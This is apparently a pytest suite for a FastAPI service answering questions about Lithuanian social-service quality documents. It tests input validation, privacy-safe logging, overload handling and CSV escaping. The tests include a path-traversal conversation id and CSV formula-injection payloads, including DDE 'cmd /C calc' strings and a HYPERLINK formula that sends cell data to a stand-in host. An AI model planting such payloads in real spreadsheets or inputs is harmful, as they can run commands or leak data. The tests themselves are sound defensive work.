"""Input that must not break the HTTP API: invalid text, unknown organisations, chosen conversation
ids, endless follow-ups, floods of questions, formula cells, and overload."""

import csv
import io
import json
import logging
import threading
import time
import tracemalloc

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import create_engine

from ingest.pipeline import ingest
from service.app import create_app
from service.conversations import MAX_QUERY_CHARS

KAUNAS = "Kauno rajono socialinių paslaugų centras"
SECRET = "Slaptas klausimas apie Joną Jonaitį"


def post_raw(client, body: bytes):
    return client.post("/api/ask", content=body, headers={"Content-Type": "application/json"})


@pytest.mark.parametrize("body", [
    b'{"question": "Kas yra kokybe? \\ud800"}',
    b'{"question": "Kas yra kokybe?", "organization": "\\udfff"}',
    b'{"question": "Kas yra kokybe?", "conversation_id": "\\ud800"}',
])
def test_a_lone_surrogate_is_refused_not_a_server_error(client, body):
    response = post_raw(client, body)
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"][0] == "body"
    assert response.headers["x-content-type-options"] == "nosniff"


def test_a_refused_question_is_not_echoed_or_logged(client, caplog):
    with caplog.at_level(logging.DEBUG):
        response = post_raw(client, json.dumps({"question": SECRET + " \ud800"}, ensure_ascii=True).encode())
    assert response.status_code == 422
    assert "Jonait" not in response.text
    assert not any("Jonait" in record.getMessage() for record in caplog.records)


@pytest.mark.parametrize("question", ["   ", "\x00", "\x00\x00\x00", "\n\t\n", "?!", "\u200b"])
def test_a_question_without_words_is_refused(client, question):
    response = client.post("/api/ask", json={"question": question})
    assert response.status_code == 422
    assert "write the question in words" in response.json()["detail"][0]["msg"]


@pytest.mark.parametrize("q", [" ", "\x00", "..."])
def test_a_search_without_words_is_refused(client, q):
    assert client.get("/api/search", params={"q": q}).status_code == 422


def test_control_characters_inside_a_question_are_dropped(client):
    answer = client.post("/api/ask", json={"question": "Kaip dažnai\x00 vertinama Kauno rajono\x1b socialinių "
                                                       "paslaugų centro veiklos kokybė?"})
    assert answer.status_code == 200 and not answer.json()["abstained"]


@pytest.mark.parametrize("conversation_id", ["../../etc/passwd", "x" * 64, "ABCDEF0123456789ABCDEF0123456789", "1", ""])
def test_a_conversation_id_of_another_shape_is_refused(client, conversation_id):
    response = client.post("/api/ask", json={"question": "Kas yra EQUASS?", "conversation_id": conversation_id})
    assert response.status_code == 422


def test_a_client_cannot_choose_its_conversation_id(client):
    chosen = "0123456789abcdef0123456789abcdef"
    first = client.post("/api/ask", json={"question": "Kas yra EQUASS?", "conversation_id": chosen}).json()
    assert first["conversation_id"] != chosen and len(first["conversation_id"]) == 32
    again = client.post("/api/ask", json={"question": "Kas yra EQUASS?", "conversation_id": chosen}).json()
    assert again["conversation_id"] not in (chosen, first["conversation_id"])


def test_follow_up_queries_stay_bounded(client):
    """Each follow-up is read with the previous query; stored, that chain is cut to a fixed length
    instead of growing with every turn."""
    conversation_id = client.post("/api/ask", json={"question": "Kokia yra Kauno rajono socialinių paslaugų centro vizija?"}
                                  ).json()["conversation_id"]
    for turn in range(40):
        response = client.post("/api/ask", json={"question": f"O kas už tai atsakingas, {turn} kartą klausiu?",
                                                 "conversation_id": conversation_id})
        assert response.status_code == 200 and response.json()["conversation_id"] == conversation_id
    turns = client.app.state.conversations.turns(conversation_id)
    assert turns[-1].question.startswith("O kas už tai atsakingas, 39")
    assert "38 kartą" in turns[-1].query  # the follow-up was read with the previous question
    assert max(len(t.query) for t in turns) <= MAX_QUERY_CHARS


ORGANIZATION_ENDPOINTS = [
    ("get", "/api/search", {"params": {"q": "kokybė"}}),
    ("get", "/api/documents", {}),
    ("get", "/api/principles", {}),
    ("get", "/api/principles/ethics", {}),
    ("get", "/api/coverage", {}),
    ("get", "/api/coverage.csv", {}),
    ("get", "/api/onboarding", {}),
    ("post", "/api/ask", {"json": {"question": "Kas yra kokybės politika?"}}),
]


@pytest.mark.parametrize("method, path, extra", ORGANIZATION_ENDPOINTS)
def test_an_unknown_organization_is_refused_with_the_known_ones(client, method, path, extra):
    unknown = "Neegzistuojantis centras"
    extra = {key: dict(value) for key, value in extra.items()}
    if method == "post":
        extra["json"]["organization"] = unknown
    else:
        extra.setdefault("params", {})["organization"] = unknown
    response = getattr(client, method)(path, **extra)
    assert response.status_code == 422
    body = response.json()
    known = client.get("/api/organizations").json()["organizations"]
    assert body["organizations"] == known and KAUNAS in known
    assert unknown in body["detail"] and KAUNAS in body["detail"]
    if method == "post":
        extra["json"]["organization"] = KAUNAS
    else:
        extra["params"]["organization"] = KAUNAS
    assert getattr(client, method)(path, **extra).status_code == 200


def test_unknown_organizations_leave_no_trace_in_memory(client):
    """Every organisation string used to be cached forever (about 60 KB a request)."""
    client.get("/api/search", params={"q": "kokybė", "organization": "Šiltnamis 0"})
    tracemalloc.start()
    try:
        before = tracemalloc.take_snapshot()
        for number in range(600):
            assert client.get("/api/search", params={"q": "kokybė", "organization": f"Šiltnamis {number}"}).status_code == 422
            assert client.post("/api/ask", json={"question": "Kas yra kokybė?", "organization": f"Ūkis {number}"}
                               ).status_code == 422
        grown = sum(stat.size_diff for stat in tracemalloc.take_snapshot().compare_to(before, "filename"))
    finally:
        tracemalloc.stop()
    assert grown < 1_000_000, grown  # before: 3.3 MB for these 1,200 requests


def test_api_json_and_errors_say_nosniff(client):
    for response in (client.get("/api/documents"), client.get("/api/documents/nera"), client.get("/api/search"),
                     client.get("/healthz"), client.get("/api/coverage.csv")):
        assert response.headers["x-content-type-options"] == "nosniff", response.url


@pytest.mark.parametrize("path", ["/docs", "/redoc"])
def test_documentation_pages_have_a_content_security_policy(client, path):
    import base64
    import hashlib
    import re

    response = client.get(path)
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy and "object-src 'none'" in policy
    for body in re.findall(r"<script>(.*?)</script>", response.text, re.DOTALL):
        digest = base64.b64encode(hashlib.sha256(body.encode()).digest()).decode()
        assert f"'sha256-{digest}'" in policy
    assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";", 1)[0]


def test_an_unexpected_error_answers_500_without_logging_the_question(client, caplog, monkeypatch):
    def failing(question, *args):
        raise ValueError(f"could not handle {question}")

    monkeypatch.setattr(client.app.state.answerer, "answer", failing)
    with caplog.at_level(logging.INFO):
        response = client.post("/api/ask", json={"question": SECRET})
    assert response.status_code == 500
    assert response.json()["detail"].startswith("Internal error")
    messages = "\n".join(record.getMessage() for record in caplog.records)
    assert "ValueError while serving POST /api/ask" in messages
    assert "Jonait" not in messages and "Jonait" not in response.text


def test_an_unwritable_conversation_store_costs_the_follow_up_not_the_answer(client, monkeypatch, tmp_path):
    # A database that cannot be opened: every read and write of the store fails.
    monkeypatch.setattr(client.app.state.conversations, "engine",
                        create_engine(f"sqlite:///{tmp_path / 'missing' / 'conversations.sqlite3'}"))
    response = client.post("/api/ask", json={"question": "Kaip dažnai vertinama Centro veiklos kokybė?",
                                             "organization": "Kauno rajono socialinių paslaugų centras"})
    assert response.status_code == 200 and response.json()["quotes"]


# --- A service with small limits ----------------------------------------------------------------

@pytest.fixture(scope="module")
def small_client(base_settings, corpus_index, tmp_path_factory):
    """One request at a time, one waiting, twenty conversations at most."""
    settings = base_settings.model_copy(update={
        "max_concurrent_requests": 1, "max_waiting_requests": 1, "conversation_max": 20,
        "conversation_db": tmp_path_factory.mktemp("small") / "conversations.sqlite3"})
    with TestClient(create_app(settings)) as test_client:
        yield test_client


def test_a_flood_of_one_off_questions_keeps_conversations_in_progress(small_client):
    first = small_client.post("/api/ask", json={"question": "Kokia yra Kauno rajono socialinių paslaugų centro vizija?"}).json()
    small_client.post("/api/ask", json={"question": "O tikslai?", "conversation_id": first["conversation_id"]})
    for number in range(60):
        assert small_client.post("/api/ask", json={"question": f"Kas yra EQUASS {number}?"}).status_code == 200
    assert small_client.app.state.conversations.count() == 20
    follow_up = small_client.post("/api/ask", json={"question": "O misija?", "conversation_id": first["conversation_id"]}).json()
    assert follow_up["conversation_id"] == first["conversation_id"]
    assert follow_up["quotes"][0]["document_id"] == "kaunas-kokybes-politika"
    assert "misija" in follow_up["quotes"][0]["text"]


def test_past_the_queue_the_service_answers_503_with_retry_after_and_health_stays_fast(small_client):
    clients = 16
    barrier = threading.Barrier(clients + 1)
    responses = []

    def ask(number: int) -> None:
        barrier.wait()
        responses.append(small_client.post("/api/ask", json={"question": f"Kaip nagrinėjami skundai? {number}"}))

    threads = [threading.Thread(target=ask, args=(number,)) for number in range(clients)]
    for thread in threads:
        thread.start()
    barrier.wait()
    started = time.perf_counter()
    health = small_client.get("/healthz")
    health_seconds = time.perf_counter() - started
    for thread in threads:
        thread.join()

    assert health.status_code == 200 and health_seconds < 1.0
    statuses = sorted(response.status_code for response in responses)
    assert set(statuses) == {200, 503} and statuses.count(200) >= 2, statuses
    for busy in (response for response in responses if response.status_code == 503):
        assert int(busy.headers["retry-after"]) >= 1
        assert "busy" in busy.json()["detail"]


# --- Formula cells in the coverage spreadsheet ----------------------------------------------------

FORMULA_TITLES = {
    "nuoroda": '=HYPERLINK("http://example.invalid/?d="&A1,"Spausk")',
    "suma": "+SUM(1+1)*cmd|' /C calc'!A0",
    "minusas": "-2+3+cmd|' /C calc'!A0",
    "eta": "@SUM(1+1)",
}


@pytest.fixture(scope="module")
def formula_client(base_settings, tmp_path_factory):
    folder = tmp_path_factory.mktemp("formulas")
    entries = []
    for name, title in FORMULA_TITLES.items():
        (folder / f"{name}.txt").write_text(
            "Darbuotojai laikosi etikos kodekso ir gerbia paslaugų gavėjų teises bei orumą.", encoding="utf-8")
        entries.append({"path": f"{name}.txt", "title": title, "organization": "=Centras+1"})
    (folder / "manifest.json").write_text(json.dumps({"documents": entries}), encoding="utf-8")
    data = tmp_path_factory.mktemp("formula-index")
    settings = base_settings.model_copy(update={"index_dir": data / "index", "conversation_db": data / "c.sqlite3"})
    ingest([folder], settings.index_dir, settings, show_progress=False)
    with TestClient(create_app(settings)) as test_client:
        yield test_client


def test_coverage_csv_cells_never_start_a_formula(formula_client):
    response = formula_client.get("/api/coverage.csv", params={"organization": "=Centras+1"})
    assert response.status_code == 200
    table = response.content.decode("utf-8-sig").split("\r\n\r\n")[0]
    rows = list(csv.DictReader(io.StringIO(table), delimiter=";"))
    assert sorted(row["Dokumentas"] for row in rows) == sorted("'" + title for title in FORMULA_TITLES.values())
    for row in rows:
        assert row["Organizacija"] == "'=Centras+1"
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert float(rows[0]["Etika"].replace(",", ".")) >= 0
